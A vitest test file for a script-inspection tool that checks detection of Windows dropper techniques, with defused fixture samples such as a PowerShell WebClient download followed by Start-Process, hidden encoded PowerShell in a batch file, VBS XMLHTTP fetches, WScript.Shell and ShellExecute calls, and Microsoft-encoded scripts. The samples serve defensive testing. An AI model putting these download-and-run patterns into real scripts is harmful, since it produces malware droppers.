import { inspect } from 'sekisho'
import { describe, expect, test } from 'vitest'
import { decodeScript } from '../src/unpack/script/encoded-script.ts'
import { damaged } from './fixtures/carrier-mutate.ts'
import { CARGO } from './fixtures/carrier-pages.ts'
import { takeApart } from './fixtures/office-open.ts'

// Scripts that only name example.com; none of them is ever run.

/** `WScript.Echo "example.com"` and a line end, as Microsoft's encoder writes it. */
const ENCODED = '#@~^HwAAAA==\tUm.bwDR21tK~J\x7f6C:aVn 1W:r@#@&HgoAAA==^#~@'
const utf16 = Buffer.from('powershell -c echo example.com', 'utf16le').toString('base64')

interface Row {
  readonly name: string
  readonly text: string
  readonly says: readonly string[]
}

const ROWS: readonly Row[] = [
  {
    name: 'run.js',
    text: 'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c echo example.com");',
    says: ['object WScript.Shell', 'run .Run', 'command cmd /c echo example.com'],
  },
  {
    name: 'joined.js',
    text: 'var a = "WScr" + "ipt.Sh" + "ell"; var u = "htt" + "ps://exa" + "mple.com/x";',
    says: ['object WScript.Shell', 'url https://example.com/x'],
  },
  {
    name: 'joined.vbs',
    text: 'Set x = CreateObject("MSXML2.XML" & "HTTP")\r\nx.Open "GET", "http://exam" & "ple.com/a", False\r\n\' nobody\'s comment\r\n',
    says: ['object CreateObject', 'download MSXML2.XMLHTTP', 'url http://example.com/a'],
  },
  {
    name: 'a.ps1',
    text: '(New-Object Net.WebClient).DownloadFile("https://example.com/a", "b")\r\nStart-Process b',
    says: ['download Net.WebClient', 'download DownloadFile', 'run Start-Process', 'url https://example.com/a'],
  },
  {
    name: 'a.bat',
    text: `@echo off\r\n@powershell -w hidden -enc ${utf16}\r\n`,
    says: [`command powershell -w hidden -enc ${utf16}`, 'run powershell', 'hide -w hidden'],
  },
  {
    name: 'a.hta',
    text: '<html><hta:application id="x"><script language="VBScript">CreateObject("Shell.Application").ShellExecute "calc.exe"</script></html>',
    says: ['object Shell.Application', 'run ShellExecute'],
  },
  {
    name: 'a.wsf',
    text: '<job><script language="JScript">var a = new ActiveXObject("ADODB.Stream"); a.SaveToFile("x")</script></job>',
    says: ['drop ADODB.Stream', 'drop SaveToFile'],
  },
  { name: 'carries.js', text: `var d = "${CARGO.toString('base64')}";`, says: ['part hidden zip '] },
]

const said = (bytes: Buffer, name: string): string[] =>
  takeApart(bytes, name).parts.flatMap(({ parent, role, kind, facts, ...part }) => [
    ...(parent === null ? [] : [`part ${role} ${kind} ${part.name}`]),
    ...facts.flatMap((fact) => {
      if (fact.type === 'code') return [`${fact.does} ${fact.word}`]
      if (fact.type === 'command') return [`command ${fact.command}`]
      return fact.type === 'url' ? [`url ${fact.url}`] : []
    }),
  ])

describe('a script', () => {
  test.each(ROWS)('$name: what it does', ({ name, text, says }) => {
    for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`, 'utf16le')])
      for (const each of says) expect(said(bytes, name)).toContain(each)
  })

  test('that hides its command in layers has it recovered', () => {
    const commands = said(Buffer.from(`powershell -enc ${utf16}`), 'a.cmd')
    expect(commands).toContain('command powershell -c echo example.com')
  })

  test('is held', async () => {
    const { verdict } = await inspect(Buffer.from(ROWS[0]?.text ?? ''), { name: 'run.js' })
    expect(verdict.decision).toMatch(/hold|refuse/)
  })

  test('survives damage', () => {
    for (const { name, text } of ROWS) {
      for (const broken of damaged(Buffer.from(text), 60)) {
        const flaws = takeApart(broken, name).parts.flatMap((part) => part.flaws)
        expect(flaws.filter(({ code }) => code === 'unpack/crashed')).toEqual([])
      }
    }
  })
})

describe('Microsoft’s encoded scripts', () => {
  test('are decoded', () => {
    expect(decodeScript(ENCODED)).toEqual({ text: 'WScript.Echo "example.com"\r\n', pieces: 1 })
  })

  test('keep what stands around them, and lengths that lie do no harm', () => {
    const lying = ENCODED.replace('HwAAAA==', '////AA==')
    expect(decodeScript(`<script>${lying}</script>`).text).toBe('<script>WScript.Echo "example.com"\r\n</script>')
    expect(decodeScript('#@~^').text).toBe('')
    expect(decodeScript('nothing').pieces).toBe(0)
  })

  test('are read like any other script', () => {
    expect(said(Buffer.from(ENCODED), 'a.vbe')).toContain('hide Script.Encode')
  })
})
